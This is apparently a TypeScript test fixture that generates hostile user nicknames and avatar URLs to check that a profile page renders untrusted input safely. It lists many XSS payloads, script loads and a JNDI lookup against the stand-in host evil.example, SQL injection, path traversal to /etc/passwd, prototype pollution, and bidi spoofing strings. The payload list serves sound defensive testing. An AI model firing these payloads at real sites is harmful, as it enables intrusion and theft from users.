// What strangers call themselves and where they say their picture is, to make a page do something. Each name has an avatar
// of its own; `hacked` is the function that must never be called, and `evil.example` the host that must never be asked.

export interface Hostile {
  readonly nickname: string
  readonly avatarUrl: string
}

const RUN = 'hacked()'

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<a/>#x"/></svg>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="//evil.example/x.png">`,
  `<image src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<button autofocus onfocus=${RUN}>x`,
  `<details open ontoggle=${RUN}>x`,
  `<video src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src=javascript:parent.${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href=https://evil.example/>click</a>`,
  `<math><a xlink:href=javascript:${RUN}>x</a></math>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<style>*{display:none}</style>`,
  `<style>@import"//evil.example"</style>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<div style=width:9999px;height:9999px>x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<plaintext>`,
  `<xmp><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>-->`,
  `<?xml version="1.0"?><x/>`,
  `<custom-element is=script>`,
]

/** Ends of whatever a name could have been put into. */
const OUT_OF = ['"><', "'><", '</bdi><', '</h1></main><', '</script><', '</title><', '--><', ']]><', '`><', '\\"><']

const ATTRIBUTES = [
  `" onmouseover=${RUN} x="`,
  `' onmouseover=${RUN} x='`,
  `" autofocus onfocus=${RUN} "`,
  `x onerror=${RUN}`,
  `" style="display:none`,
  `" srcdoc="<script>${RUN}</script>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`,
  `';${RUN}//`,
  `";${RUN}//`,
  `\`;${RUN}//`,
  `\\';${RUN}//`,
  `"-${RUN}-"`,
  `\u2028${RUN}//`,
  `*/${RUN}/*`,
  `\\u003cscript\\u003e${RUN}`,
  `\\x3cscript\\x3e${RUN}`,
]

const TEMPLATES = [
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% ${RUN} %}`,
  `[[\${${RUN}}]]`,
  `{{{${RUN}}}}`,
  `@(${RUN})`,
  `{0}{1}{name}`,
  '%s%n%d%p%x',
  "$&$`$'$1$$",
  `\${jndi:ldap://evil.example/a}`,
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}',
  '{"__v":0,"type":"script","constructor":undefined}',
]

const ENTITIES = [
  '&lt;script&gt;hacked()&lt;/script&gt;',
  '&amp;lt;b&amp;gt;',
  '&#60;script&#62;hacked()&#60;/script&#62;',
  '&#x3c;img src=x onerror=hacked()&#x3e;',
  '&#0000060script>',
  '&ltscript&gthacked()',
  '&nbsp;&ZeroWidthSpace;&NoBreak;',
  '&rlm;&lrm;&#x202e;abc',
  '&quot;&apos;&amp;&copy&reg',
  '%3Cscript%3Ehacked()%3C/script%3E',
  '+ADw-script+AD4-hacked()+ADw-/script+AD4-',
  '＜script＞hacked()＜/script＞',
  'ʺ onload=hacked()',
  '‹script›hacked()‹/script›',
]

const STYLES = [
  '</style><style>body{display:none}',
  '}*{display:none}',
  'red;background:url(//evil.example/x)',
  'expression(hacked())',
  'url(javascript:hacked())',
  '-moz-binding:url(//evil.example)',
  '@import url(//evil.example);',
  "';content:url(//evil.example)",
  '\\3c script\\3e',
  '!important;position:fixed',
]

const WORDS_OF_THE_LANGUAGE = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then'],
  ...['toJSON', 'length', 'null', 'undefined', 'true', 'false', 'NaN', 'Infinity', '[object Object]', '-0', '1e999'],
  ...['{"__proto__":{"polluted":1}}', 'constructor[prototype][polluted]=1', '__proto__[polluted]=1', 'key', 'ref'],
  ...["'; DROP TABLE accounts;--", "' OR '1'='1", '../../../../etc/passwd', 'CON', 'a\r\nSet-Cookie: x=1', '=1+1'],
  ...['@SUM(1+1)', '$(hacked)', '`hacked`', '| hacked', '; hacked', '\\', '"', "'", '/', '?', '#', '%', '%00', '.'],
]

const INVISIBLE = [
  ...['\u061c', '\u115f', '\u1160', '\u200b', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202b', '\u202c'],
  ...['\u202d', '\u202e', '\u2060', '\u2066', '\u2067', '\u2068', '\u2069', '\u3164', '\ufeff', '\uffa0'],
]

const LONE_HALVES = [
  ...['\ud83d', '\ude00', 'a\ud83d', '\ude00a', '\ude00\ud83d', '\ud83d\ud83d\ude00', '\ud83d\ude00\ude00'],
  ...[`${'x'.repeat(63)}\ud83d`, `${'x'.repeat(63)}\ud83d\ude00`, `${'\ud83d'.repeat(200)}`, '<\ud83dscript>'],
]

const LONG = [
  ...['W', '中', 'i', '﷽', '𒐫', 'ꙮ', '⸻', '_', '-', '\u00a0x', 'あ', '🌸', '👨‍👩‍👧‍👦', '&amp;', '<b>'].map((part) =>
    part.repeat(500),
  ),
  ...[
    'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(8),
    `Z${'\u0334\u0335\u0336\u0337\u0338'.repeat(100)}`,
  ],
  ...['กิ์'.repeat(60), 'ཧཱུྃ'.repeat(60), 'ส็็็็็็็็็็็็็็็็็็็็', 'x'.repeat(9_000), `${' '.repeat(500)}x`, 'a b '.repeat(100)],
]

const EMOJI = [
  ...[
    '👨‍👩‍👧‍👦',
    '🏳️‍🌈',
    '🇨🇳🇨🇳🇨',
    '👍🏿👍🏻',
    '1️⃣#️⃣',
    '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
    '\u{fe0f}',
    '\u200d',
  ],
  ...['👩‍❤️‍💋‍👨', '🧑🏽‍🚀', '\uE32A\uF8FF', '\u{10ffff}', '\ufffd', '\ufffe', '🌸<script>hacked()</script>🌸'],
]

const RIGHT_TO_LEFT = [
  ...['مرحبا ليلى', 'שלום עולם', 'ܫܠܡܐ', 'ދިވެހި', 'ߒߞߏ', 'مرحبا <script>hacked()</script>', 'אבג123abc', '١٢٣ 123'],
  ...['Alice \u202egpj.exe', '\u2067\u2067\u2067Alice', '\u202eعليl\u202c', 'abc\u2066<img onerror=hacked()>'],
]

const control = (code: number): string => `a${String.fromCharCode(code)}b<i onclick=hacked()>`

/** All of them, every one another. */
const NAMES: readonly string[] = [
  ...new Set([
    ...TAGS,
    ...OUT_OF.flatMap((end) => TAGS.filter((_, i) => i % 3 === 0).map((tag) => end + tag.slice(1))),
    ...ATTRIBUTES,
    ...TEMPLATES,
    ...ENTITIES,
    ...STYLES,
    ...WORDS_OF_THE_LANGUAGE,
    ...INVISIBLE.flatMap((mark) => [mark, `a${mark}b`, `${mark.repeat(3)}gnp.<b>exe`]),
    ...LONE_HALVES,
    ...LONG,
    ...EMOJI,
    ...RIGHT_TO_LEFT,
    ...[...Array(32).keys(), ...Array.from({ length: 33 }, (_, i) => 0x7f + i)].map(control),
  ]),
]

/** @param own the origin whose pictures are shown as they are */
const pictures = (own: string): readonly string[] => [
  ...['', 'javascript:hacked()', 'JAVASCRIPT:hacked()', 'java\nscript:hacked()', '\u0001javascript:hacked()'],
  ...[
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hacked()"/>',
    'data:text/html,<script>hacked()</script>',
  ],
  ...['vbscript:hacked()', 'blob:https://thirdwx.qlogo.cn/1', 'filesystem:x', 'file:///etc/passwd', 'about:blank'],
  ...['https://evil.example/x.png', 'https://thirdwx.qlogo.cn.evil.example/x', 'https://evil.example/.qlogo.cn/x'],
  ...['https://qlogo.cn@evil.example/x', 'https://evil.example#.qlogo.cn', 'https://evil.example?.qlogo.cn'],
  ...[
    'https://evil.example\\.qlogo.cn/x',
    'https://thirdwx.qlogo.cn:8443/x',
    'ftp://thirdwx.qlogo.cn/x',
    'x" onerror="hacked()',
  ],
  ...['https://thirdwx.qlogo.cn/x" onerror="hacked()', "https://thirdwx.qlogo.cn/x' onerror='hacked()"],
  ...[
    'https://thirdwx.qlogo.cn/<svg onload=hacked()>',
    'https://thirdwx.qlogo.cn/script.svg',
    'http://wx.qlogo.cn/plain.svg',
  ],
  ...[
    'https://thirdwx.qlogo.cn/missing',
    'https://thirdwx.qlogo.cn/page.html',
    'https://thirdwx.qlogo.cn/1#"><script>hacked()</script>',
  ],
  ...[
    `${own}/mmopen/vi_32/alice/132`,
    `${own}/mmopen/vi_32/alice/132?"onerror=hacked()`,
    `${own}/mmopen/../sim/people`,
  ],
  ...[`${own}@evil.example/x`, `https://thirdwx.qlogo.cn/${'a'.repeat(2_000)}`, 'null', '[object Object]', '\ud800'],
]

/** At least 500. @param own the origin whose pictures are shown as they are */
export function hostilePeople(own: string): readonly Hostile[] {
  const from = pictures(own)
  return NAMES.map((nickname, i) => ({ nickname, avatarUrl: from[i % from.length] ?? '' }))
}
